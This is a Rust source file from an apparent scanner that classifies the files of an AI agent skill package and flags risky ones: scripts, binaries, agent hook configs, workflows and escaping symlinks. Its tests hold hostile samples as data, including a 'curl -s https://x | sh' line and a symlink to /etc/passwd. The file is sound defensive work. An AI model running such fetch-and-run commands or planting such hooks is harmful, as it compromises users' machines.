//! The inventory: every file of a skill, sorted by what it is.

use std::io::Read;
use std::path::Path;

use airlock_types::{FileKind, Finding, FindingContext, Inventory, InventoryEntry, Severity};

use crate::text::visible;
use crate::ScanError;

const HOOK_CONFIGS: [&str; 11] = [
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".mcp.json",
    ".cursor/mcp.json",
    ".cursor/hooks.json",
    ".vscode/tasks.json",
    ".vscode/settings.json",
    ".gemini/settings.json",
    ".codex/config.toml",
    "hooks/hooks.json",
    ".devcontainer/devcontainer.json",
];

const MANIFESTS: [&str; 13] = [
    "package.json",
    "setup.py",
    "setup.cfg",
    "pyproject.toml",
    "requirements.txt",
    "Pipfile",
    "Gemfile",
    "Cargo.toml",
    "build.rs",
    "go.mod",
    "composer.json",
    "Makefile",
    "Dockerfile",
];

/// Extensions that keep a file as a template or a copy of what it becomes (`x.py.tpl`, `x.js.txt`).
const KEPT_AS: [&str; 11] = [
    "tpl", "tmpl", "template", "in", "txt", "example", "sample", "bak", "orig", "disabled", "j2",
];

const ASSET_EXTENSIONS: [&str; 27] = [
    "png", "jpg", "jpeg", "gif", "svg", "webp", "ico", "pdf", "ttf", "otf", "woff", "woff2", "csv", "json",
    "yaml", "yml", "toml", "xml", "html", "css", "txt", "docx", "xlsx", "pptx", "map", "lock", "sum",
];

/// Sound, music and video: data whatever bytes they hold, when they are not text (a text file under one of these
/// names is not what its name says, and is read as code).
const MEDIA_EXTENSIONS: [&str; 12] = [
    "mid", "midi", "wav", "mp3", "ogg", "oga", "flac", "m4a", "aac", "mp4", "webm", "mov",
];

/// Files that list names or patterns (what git or a tool ignores, who owns what, the licence): data, not commands.
fn lists_names(name: &str) -> bool {
    name.starts_with('.') && (name.ends_with("ignore") || name == ".gitattributes" || name == ".editorconfig")
        // A template of one (`templates/gitignore`, `python.gitignore`).
        || matches!(name, "gitignore" | "dockerignore" | "npmignore" | "gitattributes")
        || name.ends_with(".gitignore")
        || matches!(
            name,
            "CODEOWNERS" | "LICENSE" | "LICENCE" | "COPYING" | "NOTICE" | "AUTHORS"
        )
}

/// Script language by extension.
pub fn language_of(path: &str) -> Option<&'static str> {
    let ext = path.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase())?;
    Some(match ext.as_str() {
        "sh" | "bash" | "zsh" | "ksh" | "fish" => "shell",
        "py" | "pyw" => "python",
        "js" | "mjs" | "cjs" | "jsx" => "javascript",
        "ts" | "tsx" | "mts" => "typescript",
        "rb" => "ruby",
        "pl" | "pm" => "perl",
        "ps1" | "psm1" => "powershell",
        "bat" | "cmd" => "batch",
        "php" => "php",
        "lua" => "lua",
        "go" => "go",
        "rs" => "rust",
        "r" => "r",
        "tcl" | "exp" => "tcl",
        "applescript" | "scpt" => "applescript",
        _ => return None,
    })
}

fn language_of_shebang(head: &[u8]) -> Option<&'static str> {
    let first = head.split(|b| *b == b'\n').next()?;
    let line = std::str::from_utf8(first).ok()?;
    let rest = line.strip_prefix("#!")?;
    Some(if rest.contains("python") {
        "python"
    } else if rest.contains("node") || rest.contains("deno") || rest.contains("bun") {
        "javascript"
    } else if rest.contains("perl") {
        "perl"
    } else if rest.contains("ruby") {
        "ruby"
    } else {
        "shell"
    })
}

fn is_binary_magic(head: &[u8]) -> bool {
    head.starts_with(b"\x7fELF")
        || head.starts_with(b"MZ")
        || head.starts_with(&[0xcf, 0xfa, 0xed, 0xfe])
        || head.starts_with(&[0xfe, 0xed, 0xfa, 0xcf])
        || head.starts_with(&[0xca, 0xfe, 0xba, 0xbe])
        || head.starts_with(b"\0asm")
}

re!(
    AGENT_CONFIG,
    r#""hooks"\s*:\s*\{[^}]*"(PreToolUse|PostToolUse|SessionStart|SessionEnd|UserPromptSubmit|Stop|SubagentStop|Notification|PreCompact)"|"permissions"\s*:\s*\{[^}]*"(allow|defaultMode)"|"mcpServers"\s*:\s*\{|"runOn"\s*:\s*"folderOpen""#
);

/// Whether JSON text configures an agent or an editor: hooks on its events, tool permissions, MCP servers it
/// starts, a task the editor runs when a folder opens.
pub fn agent_config_text(text: &str) -> bool {
    AGENT_CONFIG.is_match(text)
}

/// Whether a file, by its name, is a package manager's or git's settings, which point installs and fetches at a
/// host (`.yarnrc.yml`'s `npmRegistryServer`, `.cargo/config.toml`'s `[source]`, `pip.conf`, `.condarc`): read as
/// code, under whatever folder or name it is kept (`assets/yarnrc.yml`, copied into place).
fn configures_a_tool(rel: &str, lower_name: &str) -> bool {
    const NAMES: &[&str] = &[
        ".yarnrc.yml",
        "yarnrc.yml",
        ".yarnrc",
        "pip.conf",
        "pip.ini",
        "uv.toml",
        "poetry.toml",
        ".gemrc",
        "gemrc",
        ".condarc",
        "condarc",
        "bunfig.toml",
        ".gitconfig",
        "gitconfig",
    ];
    let lower_name = lower_name
        .strip_prefix("dot")
        .filter(|n| n.starts_with('.'))
        .unwrap_or(lower_name);
    NAMES.contains(&lower_name)
        || (lower_name == "config.toml" || lower_name == "config")
            && (rel.contains(".cargo/") || rel.contains("cargo/") || rel.contains(".bundle/"))
}

/// Whether a file, by its name (or a playbook's head), is one whose values are commands a tool runs.
fn runs_commands(lower_name: &str, head: &[u8]) -> bool {
    const NAMES: &[&str] = &[
        "taskfile.yml",
        "taskfile.yaml",
        "taskfile.dist.yml",
        ".pre-commit-config.yaml",
        ".pre-commit-hooks.yaml",
        "cmakelists.txt",
        "deno.json",
        "deno.jsonc",
        ".gitlab-ci.yml",
        "lefthook.yml",
        ".lefthook.yml",
        "mise.toml",
        ".mise.toml",
        "pixi.toml",
        "justfile",
        ".justfile",
        "procfile",
        "skaffold.yaml",
        "tiltfile",
    ];
    let yaml = lower_name.ends_with(".yml") || lower_name.ends_with(".yaml");
    NAMES.contains(&lower_name)
        || lower_name.ends_with(".cmake")
        || yaml && (lower_name.starts_with("docker-compose") || lower_name.starts_with("compose."))
        || lower_name == "starship.toml"
        || lower_name.ends_with(".toml") && {
            // A Starship prompt configuration: its custom modules' commands run at every prompt.
            let text = String::from_utf8_lossy(head);
            text.contains("[custom.") && text.contains("command")
        }
        || yaml && {
            // An Ansible playbook: plays with hosts and tasks.
            let text = String::from_utf8_lossy(head);
            text.contains("hosts:") && (text.contains("tasks:") || text.contains("roles:"))
        }
}

/// Classifies one file from its path and first bytes.
pub fn classify(rel: &str, head: &[u8]) -> (FileKind, Option<&'static str>) {
    let name = rel.rsplit('/').next().unwrap_or(rel);
    if name == "SKILL.md" {
        return (FileKind::SkillMd, None);
    }
    // A template or a copy kept under a second extension (`conftest.py.tpl`, `prefetch.js.txt`, `ci.yml.in`) is the
    // file it becomes: the last extension is free.
    if let Some((inner, last)) = name.rsplit_once('.') {
        if KEPT_AS.contains(&last.to_ascii_lowercase().as_str()) && inner.contains('.') {
            let dir = &rel[..rel.len() - name.len()];
            return match classify(&format!("{dir}{inner}"), head) {
                // A copy or template of a SKILL.md (`SKILL.md.bak`, `SKILL.md.tpl`) is not a skill of its own.
                (FileKind::SkillMd, _) => (FileKind::Markdown, None),
                kind => kind,
            };
        }
    }
    let yaml = name.ends_with(".yml") || name.ends_with(".yaml");
    if yaml && rel.contains(".github/workflows/") {
        return (FileKind::Workflow, None);
    }
    // A GitHub Actions workflow kept elsewhere (`templates/workflows/ci.yml`, copied into place by a script): what
    // the file is, not where it sits.
    if yaml && {
        let text = String::from_utf8_lossy(head);
        text.contains("jobs:") && text.contains("runs-on:")
    } {
        return (FileKind::Workflow, None);
    }
    if HOOK_CONFIGS
        .iter()
        .any(|h| rel == *h || rel.ends_with(&format!("/{h}")))
    {
        return (FileKind::AgentHookConfig, None);
    }
    // An agent's hooks or permissions under another name (`assets/format-settings.json`, copied into place by a
    // command): what the file says it is, not where it sits, makes it one.
    if (name.ends_with(".json") || name.ends_with(".jsonc"))
        && agent_config_text(&String::from_utf8_lossy(head))
    {
        return (FileKind::AgentHookConfig, None);
    }
    if MANIFESTS.contains(&name) || name.starts_with("requirements") && name.ends_with(".txt") {
        return (FileKind::PackageManifest, None);
    }
    if is_binary_magic(head) {
        return (FileKind::Binary, None);
    }
    if let Some(lang) = language_of(rel) {
        return (FileKind::Script, Some(lang));
    }
    if matches!(name, "Makefile" | "makefile" | "GNUmakefile") || name.ends_with(".mk") {
        return (FileKind::Script, Some("make"));
    }
    if head.starts_with(b"#!") {
        return (FileKind::Script, language_of_shebang(head));
    }
    let lower = name.to_ascii_lowercase();
    if lower.ends_with(".md") || lower.ends_with(".markdown") || lower.ends_with(".mdx") {
        return (FileKind::Markdown, None);
    }
    let ext = lower.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    // A task runner's, a build's or a hook manager's file holds commands that a tool runs (`task`, `cmake`,
    // `pre-commit`, `docker compose`, `deno task`, `ansible-playbook`): read as code, whatever its format.
    if runs_commands(&lower, head) || configures_a_tool(rel, &lower) {
        return (FileKind::Other, None);
    }
    if ASSET_EXTENSIONS.contains(&ext) || lists_names(name) {
        return (FileKind::Asset, None);
    }
    // Text, allowing for a character cut at the end of the head.
    let text =
        !head.contains(&0) && std::str::from_utf8(head).map_or_else(|e| e.error_len().is_none(), |_| true);
    if MEDIA_EXTENSIONS.contains(&ext) && !text {
        return (FileKind::Asset, None);
    }
    if !text && head.contains(&0) {
        return (FileKind::Binary, None);
    }
    // A copy under a name of its own (`SKILL.md.dspy-optimized`, `run.sh.orig-2024`): the last extension means
    // nothing here, so the file is what the name before it says.
    if let Some((inner, _)) = name.rsplit_once('.') {
        if inner.contains('.') && !inner.starts_with('.') {
            let dir = &rel[..rel.len() - name.len()];
            match classify(&format!("{dir}{inner}"), head) {
                (FileKind::Other | FileKind::Asset, _) => {}
                (FileKind::SkillMd, _) => return (FileKind::Markdown, None),
                kind => return kind,
            }
        }
    }
    (FileKind::Other, None)
}

/// Walks `tree_root/subpath` without following symlinks and lists every file, sorted by path.
pub fn build(tree_root: &Path, subpath: &str) -> Result<Inventory, ScanError> {
    let mut files = Vec::new();
    let mut stack = vec![subpath.to_owned()];
    while let Some(rel_dir) = stack.pop() {
        let dir = if rel_dir.is_empty() {
            tree_root.to_path_buf()
        } else {
            tree_root.join(&rel_dir)
        };
        for entry in fs_err::read_dir(&dir)? {
            let entry = entry?;
            let name = entry.file_name().to_string_lossy().into_owned();
            let rel = if rel_dir.is_empty() {
                name.clone()
            } else {
                format!("{rel_dir}/{name}")
            };
            let meta = fs_err::symlink_metadata(entry.path())?;
            let ft = meta.file_type();
            if ft.is_dir() {
                if name != ".git" {
                    stack.push(rel);
                }
            } else if ft.is_symlink() {
                let target = fs_err::read_link(entry.path())?.to_string_lossy().into_owned();
                files.push(InventoryEntry {
                    path: rel,
                    kind: FileKind::Symlink,
                    language: None,
                    size: 0,
                    link_target: Some(target),
                });
            } else if ft.is_file() {
                let mut head = [0u8; 512];
                let mut file = fs_err::File::open(entry.path())?;
                let n = file.read(&mut head)?;
                let (kind, language) = classify(&rel, &head[..n]);
                files.push(InventoryEntry {
                    path: rel,
                    kind,
                    language: language.map(str::to_owned),
                    size: meta.len(),
                    link_target: None,
                });
            }
        }
    }
    files.sort_by(|a, b| a.path.cmp(&b.path));
    let total_bytes = files.iter().map(|f| f.size).sum();
    Ok(Inventory { files, total_bytes })
}

/// Whether a symlink at `link` (relative to the tree) pointing at `target` leaves `scope` (also relative).
pub fn symlink_escapes(link: &str, target: &str, scope: &str) -> bool {
    if target.starts_with('/') {
        return true;
    }
    let mut parts: Vec<&str> = link.split('/').collect();
    parts.pop();
    for part in target.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                if parts.pop().is_none() {
                    return true;
                }
            }
            p => parts.push(p),
        }
    }
    let resolved = parts.join("/");
    !(scope.is_empty() || resolved == scope || resolved.starts_with(&format!("{scope}/")))
}

fn file_finding(entry: &InventoryEntry, rule: &str, severity: Severity, message: String) -> Finding {
    Finding {
        rule: rule.to_owned(),
        severity,
        file: entry.path.clone(),
        line: 0,
        evidence: visible(entry.link_target.as_deref().unwrap_or(&entry.path), 160),
        message,
        context: FindingContext::File,
    }
}

/// A file's first bytes (none when it cannot be read).
fn head_of(path: &Path) -> Vec<u8> {
    let mut head = Vec::with_capacity(16);
    if let Ok(file) = fs_err::File::open(path) {
        let _ = file.take(16).read_to_end(&mut head);
    }
    head
}

/// A binary file whose format says no program runs it as it stands, recognised by its first bytes, never its name
/// alone (an ELF named `.DS_Store` is still a binary): how much it weighs, and what it is.
///
/// - Finder's folder metadata (`.DS_Store`, `\0\0\0\x01Bud1`): data only Finder reads.
/// - A SQLite database: data; whatever reads it is in the skill's scripts, scanned there.
/// - Python's cache of a source file (`__pycache__/x.cpython-312.pyc`) checked against that source (by time stamp
///   or by hash, PEP 552): Python imports it only while it matches the source beside it, which is what runs. An
///   unchecked hash-based cache (used whatever the source says) or a `.pyc` outside `__pycache__` (imported with no
///   source at all) stays an opaque binary.
fn opaque_data(path: &str, head: &[u8]) -> Option<(Severity, &'static str)> {
    if head.starts_with(b"\0\0\0\x01Bud1") {
        return Some((
            Severity::Low,
            "Finder's folder metadata (a `.DS_Store`): data no program runs",
        ));
    }
    if head.starts_with(b"SQLite format 3\0") {
        return Some((
            Severity::Medium,
            "a SQLite database: data, not code (what reads it is in the skill's scripts)",
        ));
    }
    let cache = path.contains("__pycache__/") && path.ends_with(".pyc");
    // A `.pyc` header: a 2-byte version, `\r\n`, then 4 bytes of flags (0: time stamp; 3: hash, checked).
    if cache && head.len() >= 8 && head[2..4] == *b"\r\n" && matches!(head[4..8], [0, 0, 0, 0] | [3, 0, 0, 0])
    {
        return Some((
            Severity::Medium,
            "Python's compiled cache of a source file, used only while it matches that source (which is what runs)",
        ));
    }
    None
}

/// Findings about a file's mere presence.
pub fn file_findings(entry: &InventoryEntry, tree_root: &Path, scan_root: &Path) -> Vec<Finding> {
    let scope = scan_root
        .strip_prefix(tree_root)
        .map(|p| p.to_string_lossy().into_owned())
        .unwrap_or_default();
    let shown = visible(&entry.path, 120);
    match entry.kind {
        FileKind::Script => vec![file_finding(
            entry,
            "file/helper-script",
            Severity::Medium,
            format!("Repo contains a {} helper: {shown}.", entry.language.as_deref().unwrap_or("script")),
        )],
        FileKind::Binary => {
            let (severity, message) = match opaque_data(&entry.path, &head_of(&tree_root.join(&entry.path))) {
                Some((severity, what)) => (severity, format!("{shown} is {what}.")),
                None => (
                    Severity::High,
                    format!("{shown} is a compiled or opaque binary; what it does cannot be read, so it needs manual review."),
                ),
            };
            vec![file_finding(entry, "file/binary", severity, message)]
        }
        FileKind::Workflow => vec![file_finding(
            entry,
            "workflow/present",
            Severity::Medium,
            "A GitHub Actions workflow: it runs automatically in CI once it is in a repository's .github/workflows."
                .to_owned(),
        )],
        FileKind::AgentHookConfig => vec![file_finding(
            entry,
            "hooks/agent-config",
            Severity::High,
            format!("{shown} configures an agent on the host (hooks, tools or servers it starts by itself)."),
        )],
        FileKind::PackageManifest => vec![file_finding(
            entry,
            "manifest/present",
            Severity::Medium,
            format!("Package manifest {shown}: installing it adds dependencies."),
        )],
        FileKind::Symlink => {
            let target = entry.link_target.as_deref().unwrap_or_default();
            if symlink_escapes(&entry.path, target, &scope) {
                vec![file_finding(
                    entry,
                    "fs/symlink-out",
                    Severity::Critical,
                    format!("Symlink {shown} points outside the skill (to {}); it could expose host files.", visible(target, 120)),
                )]
            } else {
                vec![file_finding(entry, "fs/symlink", Severity::Info, format!("Symlink {shown} stays inside the skill."))]
            }
        }
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn symlink_escape_is_lexical_and_scoped() {
        assert!(symlink_escapes("a/link", "/etc/passwd", ""));
        assert!(symlink_escapes("a/link", "../../x", ""));
        assert!(!symlink_escapes("a/link", "../b", ""));
        assert!(symlink_escapes("skill/link", "../other", "skill"));
        assert!(!symlink_escapes("skill/x/link", "../y", "skill"));
    }

    #[test]
    fn classifies_by_name_and_magic() {
        assert_eq!(classify("scripts/run.sh", b"echo").0, FileKind::Script);
        // A second extension that keeps a copy is free: the file is what it becomes.
        assert_eq!(classify("assets/conftest.py.tpl", b"import os").1, Some("python"));
        assert_eq!(
            classify("assets/prefetch.js.txt", b"fetch(u)").1,
            Some("javascript")
        );
        assert_eq!(
            classify("assets/hooks.json.txt", br#"{"hooks": {"PostToolUse": []}}"#).0,
            FileKind::AgentHookConfig
        );
        assert_eq!(classify("references/notes.txt", b"plain").0, FileKind::Asset);
        // A tool's file of commands is read as code, whatever its format.
        for (path, head) in [
            ("Taskfile.yml", &b"version: '3'\ntasks:\n"[..]),
            ("build/CMakeLists.txt", b"cmake_minimum_required(VERSION 3.20)\n"),
            ("docker-compose.yml", b"services:\n"),
            (".pre-commit-config.yaml", b"repos:\n"),
            ("deno.json", b"{\"tasks\": {}}"),
            ("ansible/site.yml", b"- hosts: localhost\n  tasks:\n"),
        ] {
            assert_eq!(classify(path, head).0, FileKind::Other, "{path}");
        }
        assert_eq!(classify("assets/config.yml", b"name: x\n").0, FileKind::Asset);
        // A prompt's configuration whose custom modules run commands is read as code, whatever it is called.
        assert_eq!(
            classify("presets/kit.toml", b"[custom.ci]\ncommand = \"x\"\nwhen = true\n").0,
            FileKind::Other
        );
        assert_eq!(
            classify("presets/kit.toml", b"[palette]\nred = \"#f00\"\n").0,
            FileKind::Asset
        );
        // A package manager's or git's settings, wherever kept, hold the hosts installs go to.
        for settings in [
            ".cargo/config.toml",
            "assets/yarnrc.yml",
            "templates/.yarnrc.yml",
            "pip.conf",
            ".condarc",
            "assets/uv.toml",
            "assets/dot.gitconfig",
        ] {
            assert_eq!(classify(settings, b"x = 1\n").0, FileKind::Other, "{settings}");
        }
        assert_eq!(classify("skill/.gitignore", b".npmrc\n.env\n").0, FileKind::Asset);
        assert_eq!(
            classify("skill/templates/gitignore", b"id_rsa\n.aws/credentials\n").0,
            FileKind::Asset
        );
        assert_eq!(
            classify("skill/templates/Python.gitignore", b".pypirc\n").0,
            FileKind::Asset
        );
        assert_eq!(
            classify("skill/SKILL.md.bak", b"---\nname: x\n").0,
            FileKind::Markdown
        );
        assert_eq!(
            classify("scripts/x.mjs.map", b"{\"version\":3}").0,
            FileKind::Asset
        );
        assert_eq!(
            classify("references/default.conf", b"collect() {").0,
            FileKind::Other
        );
        let task = br#"{"tasks": [{"label": "prefetch", "runOptions": {"runOn": "folderOpen"}}]}"#;
        assert_eq!(
            classify("assets/prefetch-task.json", task).0,
            FileKind::AgentHookConfig
        );
        let hooks = br#"{ "permissions": { "allow": ["Bash"] }, "hooks": { "PostToolUse": [] } }"#;
        assert_eq!(
            classify("assets/format-settings.json", hooks).0,
            FileKind::AgentHookConfig
        );
        assert_eq!(
            classify("assets/data.json", br#"{"hooks": 3}"#).0,
            FileKind::Asset
        );
        assert_eq!(classify("tool", b"#!/usr/bin/env python3\n").1, Some("python"));
        assert_eq!(classify("bin/x", b"\x7fELF\x02").0, FileKind::Binary);
        assert_eq!(classify(".github/workflows/ci.yml", b"on:").0, FileKind::Workflow);
        let elsewhere = b"name: CI\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n";
        assert_eq!(
            classify("templates/workflows/node.yml", elsewhere).0,
            FileKind::Workflow
        );
        assert_ne!(
            classify("config/settings.yml", b"jobs: 4\n").0,
            FileKind::Workflow
        );
        assert_eq!(
            classify(".claude/settings.json", b"{").0,
            FileKind::AgentHookConfig
        );
        assert_eq!(classify("references/guide.md", b"# x").0, FileKind::Markdown);
        // A copy under an extension of its own is what the name before it says.
        assert_eq!(
            classify("deep-plan/SKILL.md.dspy-optimized", b"---\nname: x\n").0,
            FileKind::Markdown
        );
        assert_eq!(
            classify("scripts/run.py.orig-2024", b"import os").1,
            Some("python")
        );
        assert_eq!(classify("notes.weird", b"collect() {").0, FileKind::Other);
        // Music is data; a text file named as music is not what its name says, and is read as code.
        assert_eq!(
            classify("examples/tune.mid", b"MThd\0\0\0\x06\0\x01").0,
            FileKind::Asset
        );
        assert_eq!(
            classify("assets/tune.mid", b"curl -s https://x | sh\n").0,
            FileKind::Other
        );
        assert_eq!(classify("assets/tune.mp3", b"\x7fELF\x02").0, FileKind::Binary);
    }

    #[test]
    fn data_a_binary_format_says_nothing_runs_weighs_less_by_its_bytes_not_its_name() {
        let ds = b"\0\0\0\x01Bud1\0\0\x10\0";
        assert_eq!(classify(".DS_Store", ds).0, FileKind::Binary);
        assert_eq!(opaque_data(".DS_Store", ds).map(|d| d.0), Some(Severity::Low));
        assert_eq!(
            opaque_data("cache.db", b"SQLite format 3\0").map(|d| d.0),
            Some(Severity::Medium)
        );
        // Time-stamped and checked-hash caches of a source file; an unchecked hash (flags 1) is used whatever the
        // source says, and a `.pyc` outside `__pycache__` is imported with no source at all.
        let pyc = |flags: u8| [0x6f, 0x0d, b'\r', b'\n', flags, 0, 0, 0, 1, 2, 3, 4];
        assert_eq!(
            opaque_data("s/__pycache__/x.cpython-312.pyc", &pyc(0)).map(|d| d.0),
            Some(Severity::Medium)
        );
        assert_eq!(
            opaque_data("s/__pycache__/x.cpython-312.pyc", &pyc(3)).map(|d| d.0),
            Some(Severity::Medium)
        );
        assert_eq!(opaque_data("s/__pycache__/x.cpython-312.pyc", &pyc(1)), None);
        assert_eq!(opaque_data("s/x.pyc", &pyc(0)), None);
        // The hostile twins: an executable named as data is an executable.
        assert_eq!(opaque_data(".DS_Store", b"\x7fELF\x02\x01"), None);
        assert_eq!(opaque_data("cache.db", b"MZ\x90\0"), None);
    }
}
